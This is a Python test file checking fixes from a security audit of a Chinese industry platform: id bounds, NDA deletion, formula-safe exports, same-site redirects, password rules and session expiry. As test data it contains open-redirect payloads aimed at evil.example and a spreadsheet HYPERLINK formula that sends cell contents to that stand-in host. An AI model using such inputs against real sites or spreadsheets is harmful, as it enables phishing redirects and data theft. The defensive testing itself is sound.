"""The second outside audit (issue 21): ids the database cannot hold, deleting a need with its own NDA,
formulas in exports, redirects that leave the site once decoded, weak passwords and sessions that never end.
Each test is what a user or client saw go wrong, in the language they read (Chinese first)."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from app.deals.services import interests
from app.platform.spreadsheets import safe_row
from app.web import identity
from app.web.input_guards import same_site_path
from models import NdaDocument, Notification, Organization, Role, User
from tests.conftest import BACKENDS
from tests.utils.bureau import apply, carry, center_user, create_account, create_call, create_expert
from tests.utils.factories import (
    PASSWORD,
    create_achievement,
    create_need,
    create_role_user,
    create_user,
    in_app,
    random_credit_code,
    registration_data,
)
from tests.utils.ui_deals import accept, express
from tests.utils.web import bearer, csrf_token

# Each test that touches the database runs on SQLite and PostgreSQL.
on_both = pytest.mark.parametrize("backend", BACKENDS, indirect=True)

HUGE = "99999999999999999999"
ID_RANGE = "须为 1 到 2147483647 之间的整数。"
AT_MOST = "不能大于 2147483647。"


def notify(session, user, n: int = 2) -> list[int]:
    rows = [
        Notification(user_id=user.id, kind="interest", subject_type="interest", subject_id=1)
        for _ in range(n)
    ]
    session.add_all(rows)
    session.commit()
    return [row.id for row in rows]


# --- item 1: every id, wherever it comes from, passes the one bounds check -----------------------------------


@on_both
def test_a_huge_center_id_in_the_query_is_a_422_naming_it(client, enterprise):
    response = client.get(
        f"/api/v1/incubations?center_id={HUGE}", headers=bearer(client, enterprise.email, PASSWORD)
    )
    assert response.status_code == 422
    assert response.json["error"]["message"] == "部分字段填写有误。"
    assert response.json["error"]["fields"] == {"center_id": ID_RANGE}


@on_both
def test_a_huge_id_in_the_list_of_notifications_to_mark_read_is_a_422(client, session, enterprise):
    kept = notify(session, enterprise)
    headers = bearer(client, enterprise.email, PASSWORD)
    response = client.post("/api/v1/notifications/read", json={"ids": [kept[0], 10**20]}, headers=headers)
    assert response.status_code == 422
    assert response.json["error"]["fields"] == {"ids": AT_MOST}
    # Nothing was marked: the request was refused as a whole.
    assert client.get("/api/v1/notifications", headers=headers).json["unread"] == 2
    assert (
        client.post("/api/v1/notifications/read", json={"ids": [kept[0]]}, headers=headers).json["unread"]
        == 1
    )


@on_both
def test_a_huge_notification_id_in_the_form_marks_nothing(client, session, auth, enterprise):
    notify(session, enterprise)
    auth.login(enterprise.email)
    token = csrf_token(client, "/notifications")
    response = client.post("/notifications/read", data={"id": HUGE, "csrf_token": token})
    assert response.status_code == 302
    assert 'data-unread="2"' in client.get("/").get_data(as_text=True)


@on_both
def test_a_huge_expert_id_for_a_panel_or_an_evaluation_is_a_422(client, session):
    bureau = create_account(session, Role.bureau, "市工信局")
    call = create_call(session, bureau)
    as_bureau = bearer(client, bureau.email, PASSWORD)
    application = apply(session, call, create_user(session, "university"))
    expert = create_expert(session, ["technology", "industry", "economics", "law", "management"])
    response = client.post(
        f"/api/v1/bureau/applications/{application.id}/panel",
        json={"expert_ids": [expert.id, 10**20]},
        headers=as_bureau,
    )
    assert response.status_code == 422
    assert response.json["error"]["fields"] == {"expert_ids": AT_MOST}

    filed = carry(
        session,
        bureau,
        apply(session, create_call(session, bureau), create_user(session, "university")),
        "filed",
    )
    round_ = client.post(
        "/api/v1/bureau/evaluation-rounds", json={"year": 2025, "deadline": "2026-03-31"}, headers=as_bureau
    )
    items = client.get(f"/api/v1/bureau/evaluation-rounds/{round_.json['id']}", headers=as_bureau).json[
        "items"
    ]
    evaluation_id = next(item["id"] for item in items if item["center_id"] == filed.center_id)
    response = client.post(
        f"/api/v1/bureau/evaluations/{evaluation_id}/experts",
        json={"expert_ids": [11775627138678769664]},
        headers=as_bureau,
    )
    assert response.status_code == 422
    assert response.json["error"]["fields"] == {"expert_ids": AT_MOST}


@on_both
@pytest.mark.parametrize("target_id", [HUGE, "²", "-1", "0"])
def test_the_interest_page_for_an_impossible_id_is_not_found(client, session, auth, enterprise, target_id):
    create_need(session, enterprise)
    auth.login(create_user(session, "university").email)
    response = client.get(f"/interests/new?target_type=need&target_id={target_id}")
    assert response.status_code == 404
    assert "该信息不存在或不可见。" in response.get_data(as_text=True)


@on_both
def test_ids_at_the_edge_of_the_range(client, enterprise):
    headers = bearer(client, enterprise.email, PASSWORD)
    assert client.get("/api/v1/incubations?center_id=2147483647", headers=headers).status_code == 200
    assert client.get("/api/v1/incubations?center_id=2147483648", headers=headers).status_code == 422
    marked = client.post("/api/v1/notifications/read", json={"ids": [2147483647]}, headers=headers)
    assert marked.status_code == 200 and marked.json["marked"] == 0


# --- item 16: `next` after marking notifications read stays on the site ----------------------------------------

LEAVING = [
    "/%09/evil.example",
    "/\t/evil.example",
    "//evil.example",
    "/%5Cevil.example",
    "https://evil.example/",
]


@on_both
@pytest.mark.parametrize("target", LEAVING)
def test_marking_read_never_redirects_off_the_site(client, session, auth, enterprise, target):
    notify(session, enterprise, 1)
    auth.login(enterprise.email)
    token = csrf_token(client, "/notifications")
    response = client.post("/notifications/read", data={"next": target, "csrf_token": token})
    assert response.status_code == 302
    assert response.headers["Location"] == "/notifications"


@on_both
def test_marking_read_still_returns_to_the_page_it_came_from(client, session, auth, enterprise):
    notify(session, enterprise, 1)
    auth.login(enterprise.email)
    token = csrf_token(client, "/notifications")
    response = client.post("/notifications/read", data={"next": "/needs?page=2", "csrf_token": token})
    assert response.headers["Location"] == "/needs?page=2"


@pytest.mark.parametrize(
    "target", ["/%09/evil.example", "/%0d%0a/evil.example", "/%5C%5Cevil.example", "/%2F/evil"]
)
def test_same_site_path_refuses_targets_that_leave_once_decoded(target):
    assert same_site_path(target) is None
    assert same_site_path("/search?q=%E6%B1%BD%E8%BD%A6") == "/search?q=%E6%B1%BD%E8%BD%A6"


# --- item 2: a need with its own NDA text (or a log of who read it) can be deleted ------------------------------


@on_both
def test_deleting_a_need_with_its_own_nda_through_the_api(client, session, enterprise):
    need = create_need(session, enterprise, confidential=True, details="保密参数：焊接速度4m/min。")
    headers = bearer(client, enterprise.email, PASSWORD)
    for body in ("本保密协议第一版。", "本保密协议第二版。"):
        assert (
            client.put(f"/api/v1/needs/{need.id}/nda", json={"body": body}, headers=headers).status_code
            == 200
        )
    assert client.delete(f"/api/v1/needs/{need.id}", headers=headers).status_code == 204
    assert client.get(f"/api/v1/needs/{need.id}", headers=headers).status_code == 404
    assert session.exec(select(NdaDocument).where(NdaDocument.need_id == need.id)).all() == []


@on_both
def test_deleting_a_need_whose_details_were_read_on_the_page(client, session, auth, enterprise):
    need = create_need(session, enterprise, confidential=True, details="保密参数：焊接速度4m/min。")
    headers = bearer(client, enterprise.email, PASSWORD)
    assert (
        client.put(
            f"/api/v1/needs/{need.id}/nda", json={"body": "本需求的保密协议。"}, headers=headers
        ).status_code
        == 200
    )
    # The bureau reads the confidential details, which the owner's log records.
    auth.login(create_role_user(session, "bureau").email)
    assert "焊接速度" in client.get(f"/needs/{need.id}").get_data(as_text=True)
    auth.logout()
    auth.login(enterprise.email)
    response = client.post(
        f"/needs/{need.id}/delete", data={"csrf_token": csrf_token(client, f"/needs/{need.id}")}
    )
    assert response.status_code == 302
    assert "已删除。" in client.get(response.headers["Location"]).get_data(as_text=True)
    assert client.get(f"/needs/{need.id}").status_code == 404


@on_both
def test_a_need_with_an_accepted_nda_is_still_only_closed(client, session, enterprise):
    need = create_need(session, enterprise, confidential=True, details="保密参数：焊接速度4m/min。")
    lab = create_user(session, "university")
    interest = express(session, lab, "need", need.id)
    accept(session, enterprise, interest.id)
    with in_app(session):
        interests.accept_nda(
            session=session,
            user=lab,
            interest_id=interest.id,
            agreed=True,
            version=interests.PLATFORM_NDA_VERSION,
        )
    response = client.delete(f"/api/v1/needs/{need.id}", headers=bearer(client, enterprise.email, PASSWORD))
    assert response.status_code == 409
    assert "因此不能删除；可以将它关闭" in response.json["error"]["message"]
    assert client.get(f"/api/v1/needs/{need.id}").status_code == 200


# --- item 6: text a spreadsheet would run as a formula is exported as text ---------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def filed_center(session, name: str):
    bureau = create_account(session, Role.bureau, "市工信局")
    applicant = create_user(session, "university")
    application = apply(session, create_call(session, bureau), applicant, center_name=name)
    return bureau, applicant, carry(session, bureau, application, "filed").center_id


@on_both
def test_the_first_use_list_csv_neutralises_formulas(client, session):
    bureau, applicant, center_id = filed_center(session, "@SUM(1+1)轻量化创新中心")
    achievement = create_achievement(
        session, applicant, center_id=center_id, title="+86 高强度铝合金成形工艺"
    )
    manager = center_user(session, center_id)  # the center's own user flags; the lead unit published
    as_center, as_bureau = bearer(client, manager.email, PASSWORD), bearer(client, bureau.email, PASSWORD)
    flag = client.post(
        f"/api/v1/bureau/centers/{center_id}/first-use-flags",
        headers=as_center,
        json={"achievement_id": achievement.id, "category": "new_material", "reason": FORMULA},
    )
    assert flag.status_code == 201, flag.json
    review = {"recommend": True, "note": "-1 条件具备，建议推荐"}
    assert (
        client.post(
            f"/api/v1/bureau/first-use-flags/{flag.json['id']}/review", headers=as_bureau, json=review
        ).status_code
        == 200
    )
    text = client.get("/api/v1/bureau/first-use-flags/recommended.csv", headers=as_bureau).get_data(
        as_text=True
    )
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0][0] == "序号" and rows[1][0] == "1"
    assert rows[1][1] == "'+86 高强度铝合金成形工艺"
    assert rows[1][3] == "'@SUM(1+1)轻量化创新中心"
    assert rows[1][4] == "'" + FORMULA
    assert rows[1][5] == "'-1 条件具备，建议推荐"


@on_both
def test_the_indicator_exports_neutralise_formulas(client, session, auth):
    bureau, _applicant, center_id = filed_center(session, FORMULA)
    auth.login(bureau.email)
    query = {"year": 2026, "center_id": center_id}
    text = client.get("/indicators.csv", query_string=query).get_data(as_text=True)
    scope = next(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert scope[3] == "'" + FORMULA
    sheet = load_workbook(io.BytesIO(client.get("/indicators.xlsx", query_string=query).data)).active
    assert sheet["D1"].value == "'" + FORMULA and sheet["D1"].data_type == "s"
    # Figures stay numbers.
    assert all(
        isinstance(v, int)
        for row in sheet.iter_rows(min_row=3, min_col=2, values_only=True)
        for v in row
        if v is not None
    )


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_gets_a_quote(text):
    assert safe_row([text, "安全", 3, -2, None]) == ["'" + text, "安全", 3, -2, None]


# --- item 17: a password policy that says which rule failed ------------------------------------------------------

WEAK = [
    ("12345678", "内容过短：至少 10 个字符。"),
    ("1234567890", "该密码属于最常见的密码之一，请换一个不易被猜到的密码。"),
    ("Password123", "该密码属于最常见的密码之一，请换一个不易被猜到的密码。"),
    ("li.gong.2026", "密码不能是您的邮箱地址，也不能是邮箱 @ 前面的部分。"),
    ("Li.Gong.2026@example.cn", "密码不能是您的邮箱地址，也不能是邮箱 @ 前面的部分。"),
]


@on_both
@pytest.mark.parametrize("password, message", WEAK)
def test_registration_through_the_api_refuses_a_weak_password(client, session, password, message):
    data = {**registration_data(), "email": "li.gong.2026@example.cn", "password": password}
    response = client.post("/api/v1/register", json=data)
    assert response.status_code == 422
    assert response.json["error"]["fields"] == {"password": message}
    assert session.exec(select(User)).all() == []


@on_both
@pytest.mark.parametrize("password, message", WEAK)
def test_the_registration_page_refuses_a_weak_password(client, session, password, message):
    form = {
        "org_kind": "enterprise",
        "org_name": "长春示范精密机械有限公司",
        "credit_code": random_credit_code(),
        "region": "220104",
        "name": "李工",
        "email": "li.gong.2026@example.cn",
        "password": password,
        "password2": password,
        "consent": "y",
        "csrf_token": csrf_token(client, "/auth/register"),
    }
    response = client.post("/auth/register", data=form)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert session.exec(select(User)).all() == []
    form["password"] = form["password2"] = "焊接-Weld-Seam-77"
    assert client.post("/auth/register", data=form).status_code == 302


@on_both
def test_a_claim_refuses_a_common_password(client, session, enterprise):
    org = session.get(Organization, enterprise.org_id)
    claim = {
        "credit_code": org.credit_code,
        "org_name": "长春真正的汽车零部件有限公司",
        "contact_name": "王经理",
        "email": "wang@real-firm.cn",
        "password": "qwertyuiop",
        "evidence": "营业执照原件可供核验，法定代表人可电话确认。",
    }
    response = client.post("/api/v1/organization-claims", json=claim)
    assert response.status_code == 422
    assert response.json["error"]["fields"] == {
        "password": "该密码属于最常见的密码之一，请换一个不易被猜到的密码。"
    }


# --- item 18: sessions end after idling, and some days after login however active -------------------------------


class Clock:
    """utcnow for app/web/identity.py, moved by the test instead of waited for."""

    def __init__(self, monkeypatch):
        self.now = datetime.now(UTC)
        monkeypatch.setattr(identity, "utcnow", lambda: self.now)

    def move(self, **delta) -> None:
        self.now += timedelta(**delta)


def signed_out(client, path: str) -> bool:
    response = client.get(path)
    if response.status_code != 302 or "/auth/login" not in response.headers["Location"]:
        return False
    assert "登录已过期，请重新登录。" in client.get(response.headers["Location"]).get_data(as_text=True)
    return True


@on_both
def test_an_idle_session_ends_after_twelve_hours(client, auth, enterprise, monkeypatch):
    clock = Clock(monkeypatch)
    auth.login(enterprise.email)
    clock.move(hours=11, minutes=58)
    assert client.get("/my").status_code == 200  # used again: the idle clock restarts
    clock.move(hours=11, minutes=58)
    assert client.get("/my").status_code == 200
    clock.move(hours=12, minutes=1)
    assert signed_out(client, "/my")
    assert client.get("/my").status_code == 302  # and it stays ended
    auth.login(enterprise.email)
    assert client.get("/my").status_code == 200


@on_both
def test_the_bureau_and_experts_are_signed_out_after_two_idle_hours(client, auth, session, monkeypatch):
    clock = Clock(monkeypatch)
    for role in ("bureau", "expert"):
        user = create_role_user(session, role)
        auth.login(user.email)
        clock.move(hours=1, minutes=59)
        assert client.get("/my").status_code != 302
        clock.move(hours=2, minutes=1)
        assert signed_out(client, "/my")


@on_both
def test_a_session_ends_seven_days_after_login_however_active(client, auth, enterprise, monkeypatch):
    clock = Clock(monkeypatch)
    auth.login(enterprise.email)
    for _hour in range(0, 7 * 24 - 1, 6):
        clock.move(hours=6)
        assert client.get("/my").status_code == 200
    clock.move(hours=6)
    assert signed_out(client, "/my")


@on_both
def test_the_limits_are_settings(app, client, auth, enterprise, monkeypatch):
    clock = Clock(monkeypatch)
    app.config.update(SESSION_IDLE_MINUTES=5)
    auth.login(enterprise.email)
    clock.move(minutes=4)
    assert client.get("/my").status_code == 200
    clock.move(minutes=6)
    assert signed_out(client, "/my")
